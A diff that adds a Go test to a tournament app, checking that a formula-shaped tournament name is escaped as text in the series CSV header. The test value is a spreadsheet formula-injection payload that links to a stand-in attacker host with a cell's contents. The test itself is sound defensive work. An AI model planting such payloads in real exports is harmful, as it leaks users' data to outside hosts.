@@ -342,6 +342,43 @@ func TestSplitAndMergeFromTheConsole(t *testing.T) {
 	}
 }
 
+// TestTheSeriesCSVNeutralizesItsHeader: a tournament named like a formula
+// heads its columns in the series CSV as text, as a player's name is.
+func TestTheSeriesCSVNeutralizesItsHeader(t *testing.T) {
+	f := newFixture(t)
+	org, se := f.cup()
+	ctx := context.Background()
+	snap, err := f.store.Snapshot(ctx, se.Parts[0].TournamentID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Cup")`
+	if _, _, err := f.store.Write(ctx, snap, func(s *tournament.Snapshot) (*tournament.Change, error) {
+		renamed := *s.Tournament
+		renamed.Name, renamed.Rev = formula, tournament.NextRev(s.Tournament.Rev)
+		return &tournament.Change{Tournament: &renamed}, nil
+	}); err != nil {
+		t.Fatal(err)
+	}
+	rec := f.get("/o/"+org.Slug+"/series/"+se.ID+"/table.csv", "")
+	lines, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
+	if rec.Code != 200 || err != nil || len(lines) == 0 {
+		t.Fatalf("csv %d %v", rec.Code, err)
+	}
+	named := 0
+	for _, cell := range lines[0] {
+		if strings.Contains(cell, "HYPERLINK") {
+			named++
+			if !strings.HasPrefix(cell, "'=") {
+				t.Errorf("header cell %q reads as a formula", cell)
+			}
+		}
+	}
+	if named == 0 {
+		t.Errorf("the header does not name the renamed tournament: %q", lines[0])
+	}
+}
+
 // privateClub is a table soccer club whose only tournament is private (a
 // copy of the demo's training night), with its players registered and a
 // series of it; it returns the club, its token, one registered player who
